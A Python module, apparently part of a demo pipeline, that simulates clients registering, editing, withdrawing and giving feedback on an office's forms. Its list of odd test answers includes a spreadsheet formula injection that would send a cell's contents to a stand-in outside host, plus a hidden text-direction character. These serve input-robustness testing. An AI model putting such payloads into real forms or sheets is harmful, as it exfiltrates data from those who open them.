"""What people outside the office do in a year, and what the forms and staff tabs are told of it.

An event is data with a time and an id of its own, so that two offices can be told just the same.
"""

from __future__ import annotations

import heapq
from collections.abc import Sequence
from dataclasses import dataclass, field
from datetime import datetime, timedelta
from random import Random

from loket import columns as c
from loket.vocabulary import Form, Service, code_of
from pipeline.configuration.settings import Clinic
from pipeline.demo.people import Answers, person
from pipeline.questionnaires.questionnaires import service_option
from transforms.calendar.date_options import WAITING_LIST_OPTION
from transforms.evaluation.satisfaction_scale import UNSUR

EDITED, DELETED, AGAIN = 0.10, 0.04, 0.03
"""Of all registrations: later edited, withdrawn, sent twice."""
ODD, WALK_IN, INVITED = 0.04, 0.02, 0.06
"""Of all registrations: those with answers that trip readers, at the desk, by an invitation."""

UNKNOWN_CODE = "CC-0000-0000"
"""What somebody types who has mislaid the message."""

ODD_ANSWERS: Sequence[Answers] = (
    {c.NAME: '=IMPORTXML("http://contoh.example/?"&A1;"//a")'},
    {c.PHONE: "8.12123E+10"},
    {c.PHONE: "14045"},
    {c.PROBLEM: "NIK saya 3201012345678901, mohon dibantu"},
    {c.BUSINESS: "'+62 \u202eusaha\u200b  terbalik"},
    {c.INVITATION_CODE: "TIDAK-ADA"},
)
"""What clients really send."""


@dataclass(frozen=True, order=True)
class Event:
    """At a time, a response comes, is edited (its id is known already) or is deleted (None)."""

    at: datetime
    number: int
    form: Form = field(compare=False)
    response_id: str = field(compare=False)
    answers: Answers | None = field(compare=False)

    @property
    def code(self) -> str:
        """The code of the response."""
        return code_of(self.response_id)


@dataclass
class Public:
    """Clients. ``meddled`` are the codes of those who have changed or withdrawn their answers."""

    random: Random
    clinic: Clinic
    meddled: set[str] = field(default_factory=set)
    superseded: int = 0
    """Feedback that a second one for the same code replaces."""
    invitations: list[str] = field(default_factory=list)
    """Codes of invitations that nobody has used yet."""
    _number: int = 0
    _to_come: list[Event] = field(default_factory=list)
    _answered: set[str] = field(default_factory=set)

    def register(
        self, since: datetime, until: datetime, count: int, offered: Sequence[str]
    ) -> None:
        """Let so many register within a span of time, for dates that are offered."""
        for _ in range(count):
            at = since + (until - since) * self.random.random()
            answers = self._client(offered)
            response_id = self._send(at, Form.REGISTRATION, answers)
            chance = self.random.random()
            if chance < EDITED:
                self._edit(at, response_id, answers, offered)
            elif chance < EDITED + DELETED:
                later = at + timedelta(hours=self.random.uniform(12, 200))
                self._plan(later, Form.REGISTRATION, response_id, None)
            elif chance < EDITED + DELETED + AGAIN:
                later = at + timedelta(hours=self.random.uniform(1, 90))
                twice = {**answers, c.PROBLEM: "Saya mendaftar ulang, mohon maaf"}
                self._send(later, Form.REGISTRATION, twice)

    def give_feedback(self, at: datetime, code: str, day: str, service: Service) -> None:
        """Let a client who was there answer, some by the hall's code, some twice, some wrongly."""
        self._feedback(at, code, day, service)
        if self.random.random() < 0.04:
            self._feedback(at + timedelta(hours=3), code, day, service)

    def rate_the_show(self, at: datetime, day: str) -> None:
        """Let a viewer of the live show answer."""
        answers: Answers = {
            "halo_date": day,
            "halo_role": "Penonton",
            "halo_satisfaction": self.random.choice("234"),
            "halo_benefit": self.random.choice("34"),
        }
        self._send(at, Form.HALO_FEEDBACK, answers)

    def due(self, until: datetime) -> list[Event]:
        """Give what has come to pass by a time, in order, each once."""
        events: list[Event] = []
        while self._to_come and self._to_come[0].at <= until:
            events.append(heapq.heappop(self._to_come))
            self._count_replaced(events[-1])
        return events

    def _count_replaced(self, event: Event) -> None:
        code = (event.answers or {}).get(c.FEEDBACK_CODE)
        if isinstance(code, str) and code != UNKNOWN_CODE:
            self.superseded += code in self._answered
            self._answered.add(code)

    def _client(self, offered: Sequence[str]) -> Answers:
        days = [option for option in offered if option != WAITING_LIST_OPTION]
        wanted = self.random.sample(days, min(len(days), self.random.choice((1, 2, 2, 3, 4))))
        answers = person(self.clinic, _ANY_DAYS, self.random, self._number)
        dates = tuple(sorted(wanted, key=days.index)) or (WAITING_LIST_OPTION,)
        return {**answers, c.DATES: dates, **self._unusual()}

    def _unusual(self) -> Answers:
        chance = self.random.random()
        if chance < ODD:
            return self.random.choice(ODD_ANSWERS)
        if chance < ODD + WALK_IN:
            return {c.INVITATION_CODE: self.clinic.walk_in_code}
        if chance < ODD + WALK_IN + INVITED and self.invitations:
            return {c.INVITATION_CODE: self.invitations.pop()}
        return {}

    def _edit(
        self, at: datetime, response_id: str, answers: Answers, offered: Sequence[str]
    ) -> None:
        other = self._client(offered)
        kept = (c.NAME, c.PHONE, c.BUSINESS, c.DISTRICT, c.SERVICE)
        same_service = other[c.SERVICE] == answers[c.SERVICE]
        changed = {**other, **{key: answers[key] for key in kept}} if same_service else answers
        later = at + timedelta(hours=self.random.uniform(0.1, 240))
        self._plan(later, Form.REGISTRATION, response_id, {**changed, c.DATES: other[c.DATES]})
        self.meddled.add(code_of(response_id))

    def _feedback(self, at: datetime, code: str, day: str, service: Service) -> None:
        chance = self.random.random()
        about: Answers = {c.FEEDBACK_CODE: code}
        if chance < 0.15:
            option = service_option(service, self.clinic.hours[service])
            about = {c.FEEDBACK_DATE: day, c.FEEDBACK_SERVICE: option}
        elif chance < 0.18:
            about = {c.FEEDBACK_CODE: UNKNOWN_CODE}
        scores = {unsur.key: self.random.choice(unsur.answers[1:]) for unsur in UNSUR}
        said = {"solved": "Ya", "suggestion": self.random.choice(("", "Sangat membantu"))}
        self._send(at, Form.FEEDBACK, {**about, **scores, **said})

    def _send(self, at: datetime, form: Form, answers: Answers) -> str:
        response_id = f"ACYDBN{self.random.getrandbits(152):038x}"
        self._plan(at, form, response_id, answers)
        return response_id

    def _plan(self, at: datetime, form: Form, response_id: str, answers: Answers | None) -> None:
        self._number += 1
        heapq.heappush(self._to_come, Event(at, self._number, form, response_id, answers))
        if answers is None:
            self.meddled.add(code_of(response_id))


_ANY_DAYS = [datetime(2026, 11, day).date() for day in range(2, 7)]  # noqa: DTZ001 -- days only
